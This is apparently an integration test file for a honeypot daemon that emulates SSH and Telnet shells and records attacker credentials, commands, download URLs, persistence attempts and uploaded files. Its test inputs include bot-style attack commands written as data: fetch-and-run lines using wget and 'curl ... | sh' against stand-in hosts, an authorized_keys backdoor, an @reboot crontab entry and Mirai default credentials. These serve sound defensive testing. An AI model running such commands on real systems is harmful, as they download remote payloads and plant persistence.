// Issue 16: interactive traps. Real clients (OpenSSH's ssh/scp through sshpass, a raw Telnet
// client as Mirai-style bots speak it) against the real trapd process on loopback; what the fake
// shell captured is checked on the bus and in trapd.sqlite.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Database } from "bun:sqlite";
import type { TrapSession } from "../../packages/schema/src/trap.ts";
import { indicatorList, sessionById } from "../../packages/tables/src/trapd-queries.ts";
import { waitFor } from "../support/bus-node.ts";
import { TrapNode } from "./harness.ts";

const missing = ["ssh", "sshpass", "scp", "ssh-keygen"].filter((t) => !Bun.which(t));
const skip = missing.length ? `missing tools (apt-get install -y openssh-client sshpass): ${missing.join(", ")}` : undefined;
if (skip) console.warn(`trapd shell tests skipped: ${skip}`);

const SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10"];

async function run(argv: string[], stdin?: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const p = Bun.spawn(argv, { stdin: stdin === undefined ? "ignore" : new TextEncoder().encode(stdin), stdout: "pipe", stderr: "pipe" });
  const timer = setTimeout(() => p.kill(), 60_000);
  const [stdout, stderr] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text()]);
  clearTimeout(timer);
  return { code: await p.exited, stdout, stderr };
}

describe.skipIf(Boolean(skip))("trapd's fake shell behind SSH and Telnet logins", () => {
  let trap: TrapNode;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "hm-shell-"));
    trap = await new TrapNode({ HONEYMESH_TRAPS_IDLE_TIMEOUT_S: "20" }).start();
  });
  afterAll(async () => {
    await trap?.stop();
    rmSync(dir, { recursive: true, force: true });
  });
  const ssh = (pw: string, user: string, extra: string[], stdin?: string) => run(["sshpass", "-p", pw, "ssh", ...SSH_OPTS, "-p", String(trap.ports.ssh), ...extra, `${user}@127.0.0.1`], stdin);
  const mine = (s: TrapSession) => s.service === "ssh" && s.src === "127.0.0.1";

  test("an exec request with a common credential gets plausible answers; commands, URL and the key are captured", async () => {
    await run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "bot@x", "-f", join(dir, "id")]);
    const pub = readFileSync(join(dir, "id.pub"), "utf8").trim();
    const fp = (await run(["ssh-keygen", "-l", "-f", join(dir, "id.pub")])).stdout.split(" ")[1]!;
    const cmd = `echo ok; uname -a; cat /proc/cpuinfo; echo ${pub} >> ~/.ssh/authorized_keys; wget http://203.0.113.50/bins/x.sh -O /tmp/x; chmod +x /tmp/x`;
    const r = await run(["sshpass", "-p", "123456", "ssh", ...SSH_OPTS, "-p", String(trap.ports.ssh), "root@127.0.0.1", cmd]);
    expect(r.stdout.split(/\r?\n/)[0]).toBe("ok");
    expect(r.stdout).toMatch(/^Linux \S+ \d+\.\d+\.\d+-\d+-(amd64|generic) #\d+ .* x86_64 GNU\/Linux$/m);
    expect(r.stdout).toMatch(/^model name\t: .+$/m);
    expect(r.stdout).toContain("Connecting to 203.0.113.50:80... failed: Connection refused.");
    const s = await trap.waitSession((x) => mine(x) && x.commands.includes(cmd), "exec session");
    expect(s.credentials).toContainEqual({ method: "password", username: "root", password: "123456" });
    expect(s.meta.login).toBe("root");
    expect(s.command_at?.length).toBe(s.commands.length);
    expect(s.indicators?.urls).toContain("http://203.0.113.50/bins/x.sh");
    expect(s.indicators?.hosts).toContain("203.0.113.50");
    expect(s.persistence).toContainEqual({ kind: "authorized_key", path: "/root/.ssh/authorized_keys", detail: "ssh-ed25519 bot@x", key_fingerprint: fp });
    const row = await trap.waitStored(s.session_id);
    const capture = JSON.parse(String((row as unknown as { capture: string }).capture));
    expect(capture.indicators.urls).toContain("http://203.0.113.50/bins/x.sh");
    expect(capture.persistence[0].key_fingerprint).toBe(fp);
    expect(row.commands).toContain(cmd);
    // What apid serves (GET /v1/events/:id, GET /v1/indicators) through trapd's query module, on the file trapd wrote.
    const db = new Database(join(trap.node.stateDir, "trapd.sqlite"), { readonly: true });
    try {
      expect(sessionById(db, s.session_id)).toMatchObject({ commands: s.commands, command_at: s.command_at, indicators: s.indicators, persistence: s.persistence, transcript: s.transcript });
      expect(indicatorList(db, 100)).toEqual(expect.arrayContaining([expect.objectContaining({ type: "url", value: "http://203.0.113.50/bins/x.sh" }), expect.objectContaining({ type: "ssh-key", value: fp })]));
    } finally {
      db.close();
    }
    // The transcript is an asciinema v2 file: a header line, then [time, "o"|"i", text] events.
    const cast = readFileSync(join(trap.node.stateDir, "trapd", "transcripts", s.transcript!), "utf8").trim().split("\n");
    expect(JSON.parse(cast[0]!)).toMatchObject({ version: 2, width: 80, height: 24 });
    expect(cast.slice(1).map((l) => JSON.parse(l)[1])).toEqual(expect.arrayContaining(["i", "o"]));
  }, 90_000);

  test("a wrong password is still refused and recorded; the same one stays refused", async () => {
    for (let i = 0; i < 2; i++) {
      const r = await run(["sshpass", "-p", "Winter2024!", "ssh", ...SSH_OPTS, "-o", "NumberOfPasswordPrompts=1", "-p", String(trap.ports.ssh), "oracle@127.0.0.1", "id"]);
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain("Permission denied");
    }
    await trap.waitSession((x) => mine(x) && x.credentials.some((c) => c.password === "Winter2024!"), "refused session");
  }, 60_000);

  test("an interactive pty session answers at a prompt the same way", async () => {
    const r = await ssh("admin", "admin", ["-tt"], "hostname\nid\ncd /tmp\npwd\nls /proc/cpuinfo\n/bin/busybox HONEY\ncurl -s http://198.51.100.23/i.sh | sh\n(crontab -l 2>/dev/null; echo '@reboot /tmp/.x') | crontab -\nexit\n");
    expect(r.stdout).toMatch(/admin@[a-z0-9-]+:~\$ /);
    expect(r.stdout).toContain("uid=");
    expect(r.stdout).toMatch(/admin@[a-z0-9-]+:\/tmp\$ /);
    expect(r.stdout).toContain("HONEY: applet not found");
    const s = await trap.waitSession((x) => mine(x) && x.commands.includes("/bin/busybox HONEY"), "pty session");
    expect(s.commands.slice(0, 4)).toEqual(["hostname", "id", "cd /tmp", "pwd"]);
    expect(s.indicators?.urls).toEqual(["http://198.51.100.23/i.sh"]);
    expect(s.persistence).toContainEqual({ kind: "crontab", path: "/var/spool/cron/crontabs/admin", detail: "@reboot /tmp/.x" });
    expect(s.transcript).toMatch(/\.cast$/);
  }, 60_000);

  test("a shell request without a terminal (ssh host < script) runs the script without prompts", async () => {
    const r = await ssh("toor", "root", ["-T"], "echo one\nwhoami\nfalse\n");
    expect(r.stdout).toBe("one\nroot\n");
    expect(r.code).toBe(1); // the last command's status, at the end of input
  }, 60_000);

  test("a Telnet login with a Mirai factory credential gets busybox answers", async () => {
    let got = "";
    const sock = await Bun.connect({ hostname: "127.0.0.1", port: trap.ports.telnet, socket: { data: (_s, d) => void (got += Buffer.from(d).toString("latin1")) } });
    const until = async (text: string) => waitFor(() => got.includes(text), 10_000, `telnet: ${text}`);
    await until("login: ");
    sock.write("root\r\n");
    await until("Password: ");
    sock.write("xc3511\r\n");
    await until("root@");
    sock.write("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n");
    await until("ECCHI: applet not found");
    expect(got).toContain("-bash: system: command not found");
    sock.write("cat /proc/cpuinfo | grep name | head -1; exit\r\n");
    await until("model name");
    sock.end();
    const s = await trap.waitSession((x) => x.service === "telnet" && x.commands.includes("/bin/busybox ECCHI"), "telnet session");
    expect(s.credentials).toContainEqual({ method: "password", username: "root", password: "xc3511" });
    expect(s.meta.login).toBe("root");
  }, 60_000);

  test("an scp upload (old protocol and SFTP) lands hashed in quarantine, read-only", async () => {
    const file = join(dir, "payload.bin");
    const bytes = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7) % 256));
    writeFileSync(file, bytes);
    const sha = new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
    for (const legacy of [true, false]) {
      const r = await run(["sshpass", "-p", "root", "scp", ...(legacy ? ["-O"] : []), ...SSH_OPTS, "-P", String(trap.ports.ssh), file, `root@127.0.0.1:/tmp/${legacy ? "a" : "b"}.bin`]);
      expect({ code: r.code, err: r.code ? r.stderr : "" }).toEqual({ code: 0, err: "" });
      const s = await trap.waitSession((x) => mine(x) && (x.files ?? []).some((f) => f.name === `/tmp/${legacy ? "a" : "b"}.bin`), `scp session ${legacy ? "-O" : "sftp"}`);
      expect(s.files).toContainEqual({ sha256: sha, size: 5000, name: `/tmp/${legacy ? "a" : "b"}.bin`, via: legacy ? "scp" : "sftp", stored: true });
    }
    const q = join(trap.node.stateDir, "trapd", "quarantine", sha);
    expect(readFileSync(q).equals(bytes)).toBe(true);
    expect(statSync(q).mode & 0o777).toBe(0o400);
  }, 90_000);
});
